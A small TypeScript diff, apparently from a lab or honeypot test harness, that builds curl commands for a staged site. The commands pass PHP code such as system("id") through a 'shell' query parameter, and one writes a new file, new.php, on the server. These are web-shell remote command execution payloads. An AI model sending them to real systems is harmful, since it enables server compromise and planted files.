@@ -13,7 +13,7 @@ export async function keepRunning(stage: Stage, state: string, engine: EngineRep
   const pristineWords = `${engineWords}PRISTINE_STATE=${state} ${pristine.path}`;
   const filter = `--filter label=${names.label}`;
   const commands = [
-    `curl -s '${site.url}/?shell=system("id");' | grep uid=`,
+    `curl -s -G ${site.url}/ --data-urlencode 'shell=system("id");' | grep uid=`,
     `curl -s -G ${site.url}/ --data-urlencode 'shell=system("echo hello > new.php");'`,
     `tail -f ${log}`,
     `${pristineWords} incidents`,
